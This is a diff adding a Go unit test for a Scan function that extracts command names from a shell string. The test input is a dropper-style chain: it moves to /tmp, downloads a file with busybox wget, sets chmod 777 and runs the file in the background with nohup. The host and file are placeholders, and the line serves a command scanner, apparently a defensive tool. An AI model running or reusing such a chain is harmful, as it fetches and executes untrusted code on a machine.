@@ -48,3 +48,11 @@ func FuzzDownloads(f *testing.F) {
 		}
 	})
 }
+
+func TestScanCommands(t *testing.T) {
+	got := Scan("`cd /tmp; busybox wget x -O y`;/bin/chmod 777 y; nohup ./y &").Commands
+	want := []string{"cd", "wget", "chmod", "y"}
+	if !slices.Equal(got, want) {
+		t.Errorf("Commands = %q, want %q", got, want)
+	}
+}
